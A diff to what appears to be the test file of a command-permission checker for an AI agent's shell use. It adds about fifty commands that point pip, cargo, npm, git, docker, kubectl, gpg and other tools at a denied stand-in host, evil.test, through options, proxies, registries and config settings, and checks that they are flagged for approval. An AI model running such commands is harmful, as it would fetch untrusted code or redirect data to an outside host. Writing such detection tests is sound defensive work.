@@ -67,6 +67,85 @@ test("a command or code that names a denied host, in whatever spelling, needs ap
   for (const command of NAMED) assert.equal((await verdictOn(command, OWN)).kind, "ask", command);
 });
 
+/** Bare words that options, settings and subcommands take as hosts. */
+const ADDRESSES = String.raw`ansible -i evil.test, all -m ping
+aws s3 ls --endpoint-url evil.test
+aws --endpoint-url=evil.test s3 ls
+pip install --proxy evil.test x
+pip install --index-url evil.test/simple x
+pip install -i evil.test/simple x
+pip config set global.index-url evil.test
+python3 -m pip install -i evil.test x
+HTTPS_PROXY=evil.test pip install x
+cargo add --git evil.test/x x
+cargo install --index evil.test x
+cargo fetch --config 'http.proxy="evil.test"'
+bundle config mirror.https://rubygems.org evil.test
+bundle add x --source evil.test
+gem push x.gem --host evil.test
+terraform init -backend-config=address=evil.test
+terraform init -backend-config address=evil.test
+pulumi login evil.test
+git -c url.evil.test:.insteadOf=x status
+git -c url.git@evil.test.pushInsteadOf=x status
+git config url.evil.test:.insteadOf x
+git config set url.ssh://evil.test.insteadOf x
+git -c http.proxy=evil.test log
+git config remote.origin.url evil.test:x
+git send-email --smtp-server evil.test x.patch
+GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.evil.test:.insteadOf GIT_CONFIG_VALUE_0=x git log
+npm install --registry evil.test x
+npm config set proxy evil.test
+uv pip install --index-url evil.test x
+uv publish --publish-url evil.test
+poetry source add x evil.test
+pdm publish -r evil.test
+conda install -c evil.test x
+helm repo add x evil.test
+docker pull evil.test/img
+nerdctl pull evil.test/img
+podman login evil.test
+skopeo copy docker://evil.test/x dir:y
+docker-compose -H evil.test up
+oc login evil.test
+oc --server evil.test get pods
+kubectl -s evil.test get pods
+k3s agent --server evil.test
+lxc launch evil.test:x
+vagrant box add evil.test/x
+go env -w GOPROXY=evil.test
+GOPROXY=evil.test go build
+gpg --keyserver evil.test --recv-keys x
+systemctl -H evil.test status
+parallel -S evil.test echo
+gcc -DHOST=evil.test x.c
+pip install --proxy=$P x
+cargo add --git $URL x
+git config remote.origin.url $URL`.split("\n");
+
+test("an option or a setting that names a denied host needs approval in mode yolo, also if the host is a bare word", async () => {
+  const rule: Rule = { domain: ["evil.test"], decision: "deny" };
+  for (const command of ADDRESSES) assert.equal((await verdictOn(command, rule)).kind, "ask", command);
+});
+
+const NEAR = String.raw`git commit -m 'evil.test is down'
+git log --grep evil.test
+cp evil.test x
+mkdir evil.test
+cargo test
+go build ./...
+pip install x
+systemctl status evil
+terraform plan`.split("\n");
+
+test("a denied host in words that name files and texts changes nothing in mode yolo", async () => {
+  const rule: Rule = { domain: ["evil.test"], decision: "deny" };
+  for (const command of NEAR) assert.equal((await verdictOn(command, rule)).kind, "allow", command);
+  const all: Rule = { domain: ["*"], decision: "deny" };
+  for (const command of ["cargo build", "go version", "go vet ./...", "systemctl status nginx"])
+    assert.equal((await verdictOn(command, all)).kind, "allow", command);
+});
+
 const OTHER = String.raw`python3 -c 'x=0; print(x[0])'
 awk '{print $1}' data.txt
 node -e 'console.log(1+1, 0.5, 10)'
